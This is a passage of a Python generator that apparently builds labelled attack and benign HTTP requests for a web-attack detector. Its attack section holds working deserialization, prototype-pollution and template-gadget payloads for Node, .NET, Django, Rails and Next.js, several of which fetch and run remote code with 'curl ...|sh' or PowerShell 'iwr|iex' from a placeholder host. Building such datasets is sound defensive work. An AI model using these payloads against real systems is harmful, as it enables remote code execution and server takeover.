                   ("mail[#type]", "markup"), ("mail[#markup]", "id")]), FORM, accept="any", ua="python")
    c.req(cat, "thinkphp-invokefunction", "GET", H_LARAVEL,
          "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
          accept="any", ua="python")
    car_htmx_form(c, cat, "preg-replace-create-function", "callback", "create_function('', 'system(\"id\");')")
    car_next_action_mp(c, cat, "php-code-in-field", "note", "<?php eval(base64_decode('c3lzdGVtKCdpZCcpOw==')); ?>")


def atk_generic(c):
    cat = "generic"
    # prototype pollution
    c.json(cat, "proto-json-isadmin", "PUT", H_EXPRESS, "/api/v1/users/me",
           json.loads('{"displayName":"sam","__proto__":{"isAdmin":true}}'), ua="chrome", origin=True,
           extra=[("Authorization", "Bearer " + c.jwt())])
    c.json(cat, "constructor-prototype-json", "POST", H_EXPRESS, "/api/v1/settings/merge",
           {"theme": "dark", "constructor": {"prototype": {"role": "admin"}}}, ua="axios")
    c.req(cat, "qs-proto-bracket", "GET", H_EXPRESS, "/api/products?__proto__[admin]=1&limit=10", accept="axios")
    c.req(cat, "qs-constructor-prototype", "GET", H_EXPRESS, "/search?constructor[prototype][polluted]=yes&q=boots",
          accept="html")
    c.req(cat, "form-nested-proto", "POST", H_EXPRESS, "/account/profile",
          "name=sam&user%5B__proto__%5D%5BisAdmin%5D=true", FORM, accept="html", origin=True, cookie=c.cookie("express"))
    c.req(cat, "dot-path-proto", "GET", H_HTMX, "/board?__proto__.isAdmin=true&view=kanban", accept="html")
    c.req(cat, "json-cookie-proto", "GET", H_EXPRESS, "/account", accept="html",
          cookie=f"{c.cookie('express')}; prefs=j%3A" + uric('{"theme":"dark","__proto__":{"role":"admin"}}'))
    c.req(cat, "graphql-json-scalar-proto", "POST", H_GQL, "/graphql",
          jd({"operationName": "SaveSettings", "variables": {"settings": json.loads('{"__proto__":{"isAdmin":true}}')},
              "query": "mutation SaveSettings($settings: JSON!) { saveSettings(settings: $settings) { ok } }"}),
          JSON, accept="gql")
    lines = jd({"index": {"_index": "prefs"}}) + "\n" + '{"user":"sam","__proto__":{"polluted":"yes"}}' + "\n"
    c.req(cat, "ndjson-proto-line", "POST", H_EXPRESS, "/api/import/ndjson", lines, "application/x-ndjson",
          accept="json", ua="node")
    c.req(cat, "ejs-outputfunctionname-gadget", "POST", H_EXPRESS, "/api/v1/profile",
          '{"name":"x","__proto__":{"outputFunctionName":"_tmp1;global.process.mainModule.require(\'child_process\').execSync(\'curl http://198.51.100.77/x|sh\');var __tmp2"}}',
          JSON, accept="json", ua="python")
    c.req(cat, "child-process-env-gadget", "POST", H_EXPRESS, "/api/v1/jobs",
          '{"job":"report","__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}',
          JSON, accept="json", ua="python")
    c.req(cat, "pug-block-gadget", "POST", H_EXPRESS, "/api/v1/pages/preview",
          '{"title":"x","__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync(\'id\')"}}}',
          JSON, accept="json", ua="python")
    c.req(cat, "lodash-template-sourceurl", "POST", H_EXPRESS, "/api/v1/templates/render",
          '{"vars":{"name":"x"},"__proto__":{"sourceURL":"\\u2028\\u2029\\nreturn e => {return process.mainModule.require(\'child_process\').execSync(\'id\')}\\n"}}',
          JSON, accept="json", ua="python")
    c.req(cat, "json-patch-proto-path", "PATCH", H_EXPRESS, "/api/v1/users/42",
          jd([{"op": "add", "path": "/__proto__/isAdmin", "value": True}]), "application/json-patch+json",
          accept="json", ua="axios")
    c.req(cat, "json-patch-constructor-path", "PATCH", H_EXPRESS, "/api/v1/documents/9",
          jd([{"op": "replace", "path": "/constructor/prototype/role", "value": "admin"}]), "application/json-patch+json",
          accept="json", ua="axios")
    c.req(cat, "merge-patch-proto", "PATCH", H_EXPRESS, "/api/users/42",
          '{"nickname":"sam","__proto__":{"isAdmin":true}}', "application/merge-patch+json", accept="json", ua="axios")
    # .NET deserialization
    odp = {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
           "MethodName": "Start",
           "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089",
                                "$values": ["cmd", "/c powershell -nop -c iwr http://198.51.100.77/a.ps1|iex"]},
           "ObjectInstance": {"$type": "System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"}}
    c.json(cat, "jsonnet-objectdataprovider", "POST", H_ASPNET, "/api/workflows", {"name": "onboarding", "step": odp},
           ua="python")
    c.json(cat, "jsonnet-assemblyinstaller", "POST", H_ASPNET, "/api/plugins",
           {"$type": "System.Configuration.Install.AssemblyInstaller, System.Configuration.Install, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a",
            "Path": "file:///\\\\198.51.100.77\\share\\payload.dll"}, ua="python")
    c.form(cat, "viewstate-typeconfusedelegate", "POST", H_ASPNET, "/Default.aspx",
           [("__EVENTTARGET", ""), ("__EVENTARGUMENT", ""), ("__VIEWSTATE", dotnet_viewstate_gadget("powershell -enc SQBFAFgA")),
            ("__VIEWSTATEGENERATOR", "CA0B0334")], origin=True, ua="python")
    car_signalr(c, cat, "signalr-argument-type-gadget", "message", jd(odp))
    xmls = ('<root type="System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35],[System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35]], System.Data.Services, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089">'
            "<ExpandedWrapperOfXamlReaderObjectDataProvider><ProjectedProperty0><MethodName>Parse</MethodName><MethodParameters>"
            "<anyType xsi:type=\"xsd:string\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\">"
            "&lt;ResourceDictionary xmlns=\"http://schemas.microsoft.com/winfx/2006/xaml/presentation\" xmlns:x=\"http://schemas.microsoft.com/winfx/2006/xaml\" xmlns:System=\"clr-namespace:System;assembly=mscorlib\" xmlns:Diag=\"clr-namespace:System.Diagnostics;assembly=system\"&gt;"
            "&lt;ObjectDataProvider x:Key=\"\" ObjectType=\"{x:Type Diag:Process}\" MethodName=\"Start\"&gt;&lt;ObjectDataProvider.MethodParameters&gt;"
            "&lt;System:String&gt;cmd&lt;/System:String&gt;&lt;System:String&gt;/c calc&lt;/System:String&gt;"
            "&lt;/ObjectDataProvider.MethodParameters&gt;&lt;/ObjectDataProvider&gt;&lt;/ResourceDictionary&gt;"
            "</anyType></MethodParameters><ObjectInstance xsi:type=\"XamlReader\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"></ObjectInstance></ProjectedProperty0>"
            "</ExpandedWrapperOfXamlReaderObjectDataProvider></root>\n")
    c.req(cat, "xmlserializer-expandedwrapper", "POST", H_ASPNET, "/api/forms/restore", xmls, "application/xml",
          accept="any", ua="python")
    # Python
    p0 = "cposix\nsystem\n(Vcurl -s http://198.51.100.77/s.sh | sh\ntR."
    c.req(cat, "pickle-session-cookie", "GET", H_DJANGO, "/dashboard/", accept="html",
          cookie=f"csrftoken={c.alnum(32)}; session={base64.b64encode(p0.encode()).decode()}")
    c.req(cat, "pickle-protocol0-body", "POST", H_DJANGO, "/api/v1/ml/predict", p0, "application/python-pickle",
          accept="json", ua="python")
    c.req_raw(cat, "pickle-protocol2-raw", "POST", H_DJANGO, "/api/v1/cache/restore",
              b"\x80\x02cposix\nsystem\nq\x00X\x1f\x00\x00\x00curl http://198.51.100.77/x | shq\x01\x85q\x02Rq\x03.",
              "application/octet-stream", accept="json", ua="python")
    c.mp(cat, "pyyaml-apply-upload", "POST", H_DJANGO, "/pipelines/import/",
         [("csrfmiddlewaretoken", c.django_token()),
          ("config", "pipeline.yml", "application/x-yaml", "name: nightly\nsteps: !!python/object/apply:os.system [\"curl http://198.51.100.77/x | sh\"]\n")],
         origin=True, cookie=c.cookie("django"))
    car_drf_json(c, cat, "pyyaml-popen-in-json", "config",
                 "!!python/object/new:subprocess.Popen [[\"/bin/sh\", \"-c\", \"id > /tmp/o\"]]")
    # Ruby
    c.mp(cat, "ruby-yaml-universal-gadget", "POST", H_RAILS, "/admin/imports",
         [("authenticity_token", c.rails_token()), ("import[file]", "products.yml", "application/x-yaml", RUBY_YAML_GADGET)],
         origin=True, cookie=c.cookie("rails"))
    c.req(cat, "rails-xml-params-yaml-cve-2013-0156", "POST", H_RAILS, "/users/sign_in",
          '<?xml version="1.0" encoding="UTF-8"?>\n<user>\n  <email type="yaml">--- !ruby/object:Gem::Requirement\n'
          '    requirements: !ruby/object:Gem::DependencyList\n      specs: []\n  </email>\n</user>\n',
          "application/xml", accept="any", ua="python")
    c.req(cat, "rails-marshal-cookie", "GET", H_RAILS, "/account", accept="html",
          cookie="_gearshed_session=" + q(base64.b64encode(ruby_marshal_gadget("curl http://198.51.100.77/x|sh")).decode()
                                          + "--" + c.hex(40)))
    # Next.js
    for slug, val, path in [("next-middleware-subrequest-depth", "middleware:middleware:middleware:middleware:middleware", "/admin"),
                            ("next-middleware-subrequest-src", "src/middleware:src/middleware:src/middleware:src/middleware:src/middleware", "/dashboard/billing"),
                            ("next-middleware-subrequest-pages", "pages/_middleware", "/api/admin/users")]:
        hdr_attack(c, cat, slug, "GET", H_NEXT, path, "x-middleware-subrequest", val, accept="html", ua="curl")
    for slug, cmd in [("react-flight-cve-2025-55182", "id"),
                      ("react-flight-cve-2025-55182-curl", "curl -s http://198.51.100.77/x|sh")]:
        p0 = jd({"then": "$1:__proto__:then", "status": "resolved_model", "reason": -1,
                 "value": '{"then":"$B1337"}',
                 "_response": {"_prefix": f"process.mainModule.require('child_process').execSync('{cmd}');",
                               "_chunks": "$Q2", "_formData": {"get": "$1:constructor:constructor"}}})
        c.mp(cat, slug, "POST", H_NEXT, "/", [("0", p0), ("1", '"$@0"'), ("2", "[]")], bkind="webkit", accept="rsc",
             ua="python", extra=[("Next-Action", "x"), ("Next-Router-State-Tree", next_tree(c, "/"))])


ATTACKS = [atk_sqli, atk_xss, atk_lfi, atk_rfi, atk_rce, atk_ssrf, atk_xxe, atk_ssti, atk_nosqli, atk_ldapi,
           atk_crlf, atk_protocol, atk_java, atk_php, atk_generic]


# ==========================================================================
# BENIGN: what people write
# ==========================================================================

REVIEWS_EN = [
    "Love these boots! Select your size carefully - they run about half a size small. I'd give them 4.5/5.",
    "Ordered both the \"Classic\" and the \"Slim\" fit; the Slim is 100% cotton and shrank ~3% after the first wash :(",
    "We met at Union Station and took the 6:15 train -- the bag fit under the seat with room to spare.",
    "Bought it for my dad's 70th. He said it's \"the best gift in years\" :-)",
    "5 stars. The quick-release buckle is great <3",
    "Got 2 of them @ $19.99 each with 30% off (code SUMMER30). Worth it!",
    "Customer service said 'we'll replace it, no questions asked.' Impressive!",
    "Size chart: S = 34-36\", M = 38-40\", L = 42-44\". I'm 5'11\" and the M fits fine.",
    "Not bad, not great. 3/5 -- the app's 'Sync now' button sometimes does nothing; I had to log out & back in.",
    "The drop-down to select the colour is confusing; I picked 'Navy' but got 'Midnight'. Returned & re-ordered.",
    "Used it for a 2-hour workshop with 25 people. Update: still going strong after 6 months!",
    "Great for kids 8+ & adults; the instructions (steps 1 through 12) are clear.",
    "Battery lasts ~9h with ANC on, ~14h off. Charging from 0 to 100% takes about 2 hrs.",
    "The exec summary at the front of the manual is actually useful, which is rare. Setup took < 10 minutes.",
    "If you're between sizes, go up one. Trust me on this one ;)",
    "Arrived with a dent on the corner (the box was fine?!). Support sent a replacement within 48 hours, so 4/5.",
    "Honestly? It's OK. Does what it says on the tin, nothing more, nothing less.",
    "Five stars for the fabric, minus one for the price -- $89 for a t-shirt is a lot, even on sale (-20%).",
    "Perfect for select occasions: weddings, dinners, the odd board meeting.",
    "My wife & I share this one; it's her 'go-to' for yoga and my 'go-to' for the gym.",
    "Tried 3 other brands first. This one's the only one that didn't pill after 10 washes.",
    "Cons: the zipper is stiff. Pros: everything else. Would buy again (already did, in grey).",
    "It's a bit loud at level 3+ but on 1-2 it's whisper quiet. Kid-approved \U0001F44D",
    "Smells like real leather, not plastic. Stitching is tight. Only wish it had a 2nd inner pocket.",
    "Fits a 16\" laptop + charger + a book. The strap's padding could be thicker though.",
    "Works with my 2019 MacBook Pro; didn't work w/ the iPad Air (gen 4) though :-/",
    "The colour in the photos is more 'teal' than 'green' IMO. Still love it.",
    "Update 2025-06-02: after 3 months the sole started to separate. Contacted support, waiting to hear back.",
    "Ten out of ten would recommend!!! Shipping to Qu\u00e9bec took only 4 days.",
    "Runs true to size. I'm usually a 9.5 and the 9.5 is perfect -- no break-in period needed.",
    "Gave it 4 stars because the \"waterproof\" claim is more like \"water-resistant\" in heavy rain.",
    "Exactly as described. Fast shipping, nice packaging, and a hand-written thank-you note. Small things matter!",
]
REVIEWS_I18N = [
    "\u00a1Excelente! Lleg\u00f3 en 2 d\u00edas. Muy recomendable \U0001F44D",
    "Tr\u00e8s bon produit, livraison rapide. Je recommande \u00e0 100 % !",
    "\u3068\u3066\u3082\u4f7f\u3044\u3084\u3059\u3044\u3067\u3059\u3002\u30b5\u30a4\u30ba\u611f\u3082\u3074\u3063\u305f\u308a\u3067\u3057\u305f\u3002",
    "\u0645\u0646\u062a\u062c \u0631\u0627\u0626\u0639 \u0648\u0633\u0639\u0631 \u0645\u0646\u0627\u0633\u0628\u060c \u0623\u0646\u0635\u062d \u0628\u0647 \u0628\u0634\u062f\u0629",
    "Sehr gut verarbeitet, aber die Gr\u00f6\u00dfe f\u00e4llt klein aus. Lieber eine Nummer gr\u00f6\u00dfer bestellen!",
    "\u8cea\u91cf\u5f88\u597d\uff0c\u7269\u6d41\u4e5f\u5feb\uff0c\u4e0b\u6b21\u9084\u6703\u518d\u8cb7\u3002",
    "\u00d3timo custo-benef\u00edcio; s\u00f3 achei a al\u00e7a um pouco curta.",
    "\u041e\u0442\u043b\u0438\u0447\u043d\u044b\u0439 \u0442\u043e\u0432\u0430\u0440, \u043f\u043e\u043b\u043d\u043e\u0441\u0442\u044c\u044e \u0441\u043e\u043e\u0442\u0432\u0435\u0442\u0441\u0442\u0432\u0443\u0435\u0442 \u043e\u043f\u0438\u0441\u0430\u043d\u0438\u044e. \u0421\u043f\u0430\u0441\u0438\u0431\u043e!",
    "Prodotto fantastico, l'ho gi\u00e0 consigliato a due amiche \U0001F60A",
    "\uc815\ub9d0 \ub9c8\uc74c\uc5d0 \ub4e4\uc5b4\uc694. \ubc30\uc1a1\ub3c4 \ube60\ub974\uace0 \ud3ec\uc7a5\ub3c4 \uaf3c\uaf3c\ud588\uc5b4\uc694.",
    "Bardzo dobra jako\u015b\u0107, ale kolor troch\u0119 ciemniejszy ni\u017c na zdj\u0119ciu.",
    "Heel tevreden! Past perfect en de levering was binnen 24 uur.",
    "\u00c7ok g\u00fczel bir \u00fcr\u00fcn, herkese tavsiye ederim.",
    "\u05e9\u05d9\u05e8\u05d5\u05ea \u05de\u05e2\u05d5\u05dc\u05d4 \u05d5\u05de\u05d5\u05e6\u05e8 \u05d0\u05d9\u05db\u05d5\u05ea\u05d9, \u05ea\u05d5\u05d3\u05d4 \u05e8\u05d1\u05d4!",
    "H\u00e0ng \u0111\u1eb9p, \u0111\u00f3ng g\u00f3i c\u1ea9n th\u1eadn, giao h\u00e0ng nhanh.",
    "Skv\u011bl\u00fd produkt za rozumnou cenu. Doporu\u010duji!",
]
COMMENTS = [
    "**Update:** fixed in v2.3.1 \u2014 see the [changelog](https://example.com/changelog#v2-3-1).\n\n- faster sync\n- dark mode\n- fewer crashes on Android 14",
    "Thanks for the write-up! One question: does the 'select all' checkbox also pick archived items, or only the visible ones?",
    "> I'd rather not change the schedule\n\nAgreed. Let's keep Tuesdays & Thursdays, 9:30-10:00 CET.",
    "Here's my checklist for the move:\n1. Book the van\n2. Update address with the bank\n3. Forward mail (USPS form online)\n4. Pizza for the helpers \U0001F355",
    "Can someone update the wiki? The 'Where to eat near Union Station' list is from 2019 and half of those places are closed.",
    "From the exec summary: revenue up 12% y/y, churn down to 2.1%, NPS 54. Full deck is in the shared drive.",
    "Tip: hold Shift while dragging to snap to the grid. Took me 3 weeks to find that out, lol.",
    "Running `npm run build` and then `npm start` fixed it for me; the missing variable warning goes away once you copy the example config.",
    "We're hosting a meetup next Wed @ 6pm -- RSVP on the event page (https://example.com/events/42). Snacks provided!",
    "Re: the \"drop\" feature -- drag files onto the board and they'll attach to the card under your cursor.",
    "Steps to reproduce:\n1. Open Settings > Notifications\n2. Toggle 'Email me' off and on\n3. Refresh\n\nExpected: stays on. Actual: resets to off.",
    "Price went from $24.99 to $29.99 overnight?? That's a 20% increase...",
    "Recipe note: swap the butter for olive oil (1:0.75 ratio) and bake at 180\u00b0C / 350\u00b0F for 25-30 min.",
    "I think the answer is 'it depends' -- small teams can get away with one repo, larger and/or regulated ones probably can't.",
    "Thanks @maria.k and @jon_b for the review! Merging once CI is green \u2705",
    "Our office is at 5th & Main, 3rd floor. Ring the bell marked \"Studio B\" & we'll buzz you in.",
    "Moving the stand-up to 10:15 tomorrow; the 'all hands' runs over. Sorry for the short notice!",
    "Dear team, please find the Q2 exec summary attached. Highlights: select markets grew 18%, the union negotiations concluded, and we'll update the roadmap by 30 June.",
    "Please drop us a line at hello@greenleafgardens.com if you'd like a printed copy of the planting calendar.",
    "## Notes from Tuesday\n\n* Budget: approved (finally!)\n* Hiring: 2 roles open -- see *Careers*\n* Next review: 1 July\n\n_Questions? Ask in #general._",
    "I'd vote for option B. Option A's 'delete after 30 days' rule would bite us during audits.",
    "Where's the 'Insert table' button gone? It used to be next to 'Insert image' in the toolbar.",
    "Hi {{first_name}}, your order {{order_number}} is on its way! Track it here: {{tracking_url}}",
    "Hi *|FNAME|*, thanks for joining the Greenleaf newsletter. Your 10% welcome code: GROW10",
    "Does anyone know if the 5:40 from Union Station still stops at Glendale on weekends?",
]
SEARCHES = [
    "red running shoes size 10", "o'neill wetsuit 4/3", "usb-c to hdmi adapter 4k 60hz", "\"noise cancelling\" headphones",
    "laptop stand -plastic", "caf\u00e9 au lait mugs", "rock & roll t-shirt", "kids' books 3-5 years", "union square hotels",
    "1/2\" drill bit", "what is 20% of 150", "c++ primer 5th edition", "select comfort mattress", "na\u00efve bayes tutorial",
    "\u6771\u4eac \u30e9\u30fc\u30e1\u30f3", "vestido de fiesta largo", "dune part two tickets", "heart necklace gold",
    "100% wool socks", "script writing software", "medical alert bracelet", "python venv not activating",
    "men's shoes 11.5 wide", "best pizza near me", "p\u00e2tisserie paris 6e", "tomato plants (cherry)",
    "how to drop a hem", "table of contents template", "return policy", "iphone 15 case w/ magsafe",
    "coffee grinder burr vs blade", "\u062c\u0648\u0627\u0644 \u0633\u0627\u0645\u0633\u0648\u0646\u062c",
    "gr\u00f6\u00dfe 42 damen schuhe", "order 10482 status", "50% off", "where to buy ethernet cable cat6",
    "trail running vs hiking shoes", "gift ideas for dad who has everything", "rain jacket women's petite",
]
NAMES = [("Siobh\u00e1n", "O'Connor"), ("Liam", "O'Brien"), ("Marco", "D'Angelo"), ("Jos\u00e9", "N\u00fa\u00f1ez"),
         ("Bj\u00f6rk", "Gu\u00f0mundsd\u00f3ttir"), ("An", "Nguy\u1ec5n V\u0103n"), ("\u5c0f\u660e", "\u738b"),
         ("\u0645\u062d\u0645\u062f", "\u0627\u0644\u0623\u062d\u0645\u062f"), ("\u0141ukasz", "Wi\u015bniewski"),
         ("Ren\u00e9e", "Lef\u00e8vre-Dubois"), ("Jean-Luc", "Picard"), ("Mary-Kate", "O'Neill"),
         ("Ana\u00efs", "Delacroix"), ("S\u00f8ren", "\u00d8stergaard"), ("Aoife", "N\u00ed Bhriain"),
         ("Hiroshi", "Tanaka"), ("Priya", "Raghunathan"), ("Ol\u00fawaseun", "Ad\u00e9b\u00e1y\u1ecd"),
         ("Ana", "da Silva"), ("Jan", "van der Berg"), ("Chlo\u00e9", "L'Heureux"), ("Sam", "Lee")]
ADDRESSES = [
    {"street": "Flat 4, 12 O'Connell Street", "city": "Dublin", "zip": "D01 F5P2", "country": "IE", "region": ""},
    {"street": "221B Baker Street", "city": "London", "zip": "NW1 6XE", "country": "GB", "region": ""},
    {"street": "1600 Amphitheatre Pkwy", "city": "Mountain View", "zip": "94043", "country": "US", "region": "CA"},
    {"street": "5 Rue de l'\u00c9glise", "city": "Lyon", "zip": "69002", "country": "FR", "region": ""},
    {"street": "Calle 50 #13-20, Apto 301", "city": "Bogot\u00e1", "zip": "110231", "country": "CO", "region": "DC"},
    {"street": "\u6e0b\u8c372-21-1", "city": "\u6771\u4eac\u90fd\u6e0b\u8c37\u533a", "zip": "150-0002", "country": "JP", "region": "13"},
    {"street": "Stra\u00dfe des 17. Juni 135", "city": "Berlin", "zip": "10623", "country": "DE", "region": ""},
    {"street": "P.O. Box 1234", "city": "Anchorage", "zip": "99501", "country": "US", "region": "AK"},
    {"street": "Av. Paulista, 1578 - Bela Vista", "city": "S\u00e3o Paulo", "zip": "01310-200", "country": "BR", "region": "SP"},
    {"street": "Unit 7/45 King St", "city": "Sydney", "zip": "2000", "country": "AU", "region": "NSW"},
    {"street": "\u0634\u0627\u0631\u0639 \u0627\u0644\u0645\u0644\u0643 \u0641\u0647\u062f\u060c \u062d\u064a \u0627\u0644\u0639\u0644\u064a\u0627", "city": "\u0627\u0644\u0631\u064a\u0627\u0636", "zip": "12211", "country": "SA", "region": ""},
    {"street": "123 Main St., Apt. #4B", "city": "Springfield", "zip": "62704", "country": "US", "region": "IL"},
    {"street": "Keizersgracht 123-II", "city": "Amsterdam", "zip": "1015 CJ", "country": "NL", "region": ""},
]
PHONES = ["+1 (415) 555-0132", "+44 20 7946 0958", "+49 30 901820", "+33 1 23 45 67 89", "+81 3-1234-5678",
          "+966 11 234 5678", "(555) 010-4477 ext. 12", "+55 11 91234-5678", "0412 345 678", "+353 1 555 0199"]
EMAILS = ["jean-luc.picard+orders@example.fr", "mary.oneill@example.com", "sam_lee@mail.example.org",
          "zoe.s@example.co.uk", "o.adebayo@example.ng", "li.wang@example.cn", "priya.r+newsletter@example.in",
          "jan.vanderberg@example.nl", "renee.lefevre@example.fr"]
PRODUCTS = ["Trailblazer 2 Hiking Boot", "Merino Crew Sock (3-pack)", "Nimbus Rain Jacket", "Atlas 30L Daypack",
            "Solstice Sunglasses", "Ridge Fleece 1/4 Zip", "Harbor Canvas Tote", "Summit Trekking Poles",
            "Women's Cascade Parka", "Kids' Puddle Boots"]
LINKS = ["https://example.com/blog/2025/05/spring-sale", "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
         "https://github.com/rails/rails/pull/51234", "https://en.wikipedia.org/wiki/Union_Station_(Los_Angeles)",
         "https://maps.google.com/?q=221B+Baker+Street", "https://docs.djangoproject.com/en/5.0/ref/models/querysets/",
         "https://www.rhs.org.uk/vegetables/tomatoes/grow-your-own", "https://example.org/events/2025/garden-open-day"]
TITLES = ["Spring planting checklist", "10 tomatoes that actually thrive in pots", "Our new greenhouse: a diary",
          "Composting 101 (and why it smells)", "Q&A: your questions about raised beds", "Why we don't use peat",
          "Summer opening hours & events", "Pruning roses: when, why and how"]


def any_review(c):
    return c.pick(REVIEWS_EN if c.chance(0.75) else REVIEWS_I18N)


PLAIN_COMMENTS = [t for t in COMMENTS if "{{" not in t and "*|" not in t]


def any_text(c):
    r = c.r.random()
    if r < 0.45:
        return c.pick(REVIEWS_EN)
    if r < 0.65:
        return c.pick(REVIEWS_I18N)
    return c.pick(PLAIN_COMMENTS)


def person(c):
    first, last = c.pick(NAMES)
    return first, last, c.pick(EMAILS), c.pick(PHONES), c.pick(ADDRESSES)


def gutenberg(c):
    blocks = []
    for _ in range(c.num(3, 7)):
        kind = c.pick(["p", "p", "h", "list", "img", "quote", "link"])
        if kind == "p":
            blocks.append(f"<!-- wp:paragraph -->\n<p>{c.pick(REVIEWS_EN + COMMENTS[:6])}</p>\n<!-- /wp:paragraph -->"
                          .replace("&", "&amp;").replace("<3", "&lt;3"))
        elif kind == "h":
            blocks.append(f'<!-- wp:heading -->\n<h2 class="wp-block-heading">{c.pick(TITLES)}</h2>\n<!-- /wp:heading -->'
                          .replace("&", "&amp;"))
        elif kind == "list":
            items = c.r.sample(["Cherry tomatoes (Sungold, Sweet Million)", "Basil &amp; parsley", "Runner beans",
                                "Courgettes \u2013 2 plants is plenty!", "Lettuce, sown every 2 weeks",
                                "Marigolds to keep the aphids away"], 4)
            blocks.append('<!-- wp:list -->\n<ul class="wp-block-list">' + "".join(
                f"<!-- wp:list-item -->\n<li>{it}</li>\n<!-- /wp:list-item -->" for it in items) + "</ul>\n<!-- /wp:list -->")
        elif kind == "img":
            mid = c.num(100, 2000)
            blocks.append(f'<!-- wp:image {{"id":{mid},"sizeSlug":"large","linkDestination":"none"}} -->\n'
                          f'<figure class="wp-block-image size-large"><img src="https://{H_WP}/wp-content/uploads/2025/05/'
                          f'tomatoes-{mid}-1024x683.jpg" alt="Cherry tomatoes ripening on the vine" class="wp-image-{mid}"/>'
                          f"<figcaption class=\"wp-element-caption\">Sungolds in week 9 \u2013 photo by Ana</figcaption></figure>\n<!-- /wp:image -->")
        elif kind == "quote":
            blocks.append('<!-- wp:quote -->\n<blockquote class="wp-block-quote"><!-- wp:paragraph -->\n'
                          "<p>\u201cThe best time to plant a tree was 20 years ago. The second best time is now.\u201d</p>\n"
                          "<!-- /wp:paragraph --><cite>Chinese proverb</cite></blockquote>\n<!-- /wp:quote -->")
        else:
            blocks.append(f'<!-- wp:paragraph -->\n<p>More on this from the <a href="{c.pick(LINKS)}" target="_blank" '
                          f'rel="noreferrer noopener">RHS guide</a> and our <a href="/2025/04/raised-beds/">raised beds post</a>.</p>\n<!-- /wp:paragraph -->')
    return "\n\n".join(blocks)


# ==========================================================================
# BENIGN: frameworks
# ==========================================================================

def ben_rails(c):
    S = "rails"
    ck = lambda: c.cookie("rails")
    for i in range(6):
        first, last, email, phone, a = person(c)
        uid = c.num(10, 99999)
        pairs = [("_method", "patch"), ("authenticity_token", c.rails_token()),
                 ("user[first_name]", first), ("user[last_name]", last), ("user[email]", email),
                 ("user[phone]", phone), ("user[address_attributes][street]", a["street"]),
                 ("user[address_attributes][city]", a["city"]), ("user[address_attributes][zip]", a["zip"]),
                 ("user[address_attributes][country]", a["country"]), ("user[address_attributes][id]", str(c.num(1, 9999))),
                 ("user[newsletter]", "0"), ("user[newsletter]", "1"), ("commit", "Save changes")]
        if i % 2:
            pairs.insert(0, ("utf8", "\u2713"))
        c.form("benign", "profile-nested-address", "POST", H_RAILS, f"/users/{uid}", pairs, sub=S, accept="turbo",
               origin=True, referer=f"/users/{uid}/edit", cookie=ck(), extra=[("X-Turbo-Request-Id", c.uuid())])
    for i in range(6):
        pid = c.num(100, 5000)
        pairs = [("authenticity_token", c.rails_token()), ("review[rating]", str(c.num(2, 6))),
                 ("review[title]", c.pick(["Great boots", "Runs small", "Love it!", "Good, not perfect", "Solid pick"])),
                 ("review[body]", any_review(c)), ("review[recommend]", "1"), ("commit", "Post review")]
        c.form("benign", "turbo-review", "POST", H_RAILS, f"/products/{pid}/reviews", pairs, sub=S, accept="turbo",
               origin=True, referer=f"/products/{pid}", cookie=ck(), extra=[("X-Turbo-Request-Id", c.uuid())])
    for i in range(5):
        pairs = [("q[name_or_description_cont]", c.pick(SEARCHES)), ("q[price_lteq]", str(c.pick([50, 100, 250]))),
                 ("q[category_id_in][]", str(c.num(1, 20))), ("q[category_id_in][]", str(c.num(21, 40))),
                 ("q[s]", c.pick(["price asc", "created_at desc", "rating desc"])), ("page", str(c.num(1, 5)))]
        uri = "/products?" + (formenc(pairs) if i % 2 else qs(pairs))
        c.req("benign", "ransack-search", "GET", H_RAILS, uri, sub=S, accept="html", cookie=ck(), ua=c.pick(BROWSERS))
    for i in range(4):
        pairs = [("_method", "patch"), ("authenticity_token", c.rails_token()), ("product[name]", c.pick(PRODUCTS)),
                 ("product[description]", c.pick(REVIEWS_EN[:12])), ("product[tag_ids][]", ""),
                 ("product[tag_ids][]", str(c.num(1, 30))), ("product[tag_ids][]", str(c.num(31, 60)))]
        for j in range(c.num(2, 4)):
            pairs += [(f"product[variants_attributes][{j}][size]", c.pick(["S", "M", "L", "XL", "9.5", "10"])),
                      (f"product[variants_attributes][{j}][price]", f"{c.num(19, 240)}.{c.pick(['00', '95', '99'])}"),
                      (f"product[variants_attributes][{j}][_destroy]", "false"),
                      (f"product[variants_attributes][{j}][id]", str(c.num(1, 9000)))]
        pid = c.num(100, 5000)
        c.form("benign", "product-variants-nested", "POST", H_RAILS, f"/admin/products/{pid}", pairs, sub=S,
               accept="turbo", origin=True, referer=f"/admin/products/{pid}/edit", cookie=ck())
    for i in range(3):
        _, _, email, _, _ = person(c)
        c.form("benign", "devise-sign-in", "POST", H_RAILS, "/users/sign_in",
               [("authenticity_token", c.rails_token()), ("user[email]", email),
                ("user[password]", c.alnum(10) + c.pick(["!", "#", "%", "&"]) + c.digits(2)),
                ("user[remember_me]", "0"), ("user[remember_me]", "1"), ("commit", "Log in")],
               sub=S, accept="turbo", origin=True, referer="/users/sign_in", cookie=ck())
    for i in range(3):
        name = c.pick(["IMG_2041.HEIC", "receipt scan.pdf", "Screenshot 2025-06-02 at 09.41.12.png", "caf\u00e9-menu.jpg"])
